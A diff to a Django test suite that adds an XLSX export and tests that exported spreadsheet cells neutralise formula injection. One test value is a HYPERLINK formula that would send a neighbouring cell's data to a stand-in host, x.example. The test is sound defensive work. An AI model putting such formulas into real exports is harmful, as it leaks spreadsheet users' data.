@@ -7,6 +7,7 @@ import csv
 import io
 from datetime import date, datetime
 
+import openpyxl
 import pytest
 import time_machine
 from django.test import Client
@@ -54,6 +55,11 @@ LIST_PAGES = [
     ),
     (
         "/beslutninger/eksport.csv",
+        ["forum", "responsible", "status", "due_before", "overdue"],
+        "member",
+    ),
+    (
+        "/beslutninger/eksport.xlsx",
         ["forum", "responsible", "status", "due_before", "overdue"],
         "member",
     ),
@@ -219,4 +225,27 @@ def test_the_decisions_register_csv_exports_formulas_as_text(
     actions = {row[4] for row in rows[1:]}
     assert actions == {"'" + hyperlink, "'" + phone}
     assert {row[3] for row in rows[1:]} == {"'@Beslutning"}
+    assert FollowUpAction.objects.filter(what=hyperlink).exists()  # stored as typed
+
+
+def test_the_decisions_register_xlsx_exports_formulas_as_text(
+    forums, secretariat_user, secretariat_client, settings, tmp_path
+):
+    settings.PRIVATE_MEDIA_ROOT = str(tmp_path)
+    hyperlink = '=HYPERLINK("http://x.example/?d="&A2;"Klik")'
+    minutes_with_actions(
+        "samarbejdsforum",
+        date(2027, 3, 10),
+        secretariat_user,
+        "@Beslutning",
+        [(hyperlink, "BIF", date(2027, 4, 30), FollowUpAction.Status.OPEN)],
+    )
+
+    response = secretariat_client.get("/beslutninger/eksport.xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    [row] = list(sheet.iter_rows(min_row=2))
+    # A text cell holding the neutralised value: no spreadsheet evaluates it.
+    assert (row[4].value, row[4].data_type) == ("'" + hyperlink, "s")
+    assert (row[3].value, row[3].data_type) == ("'@Beslutning", "s")
     assert FollowUpAction.objects.filter(what=hyperlink).exists()  # stored as typed
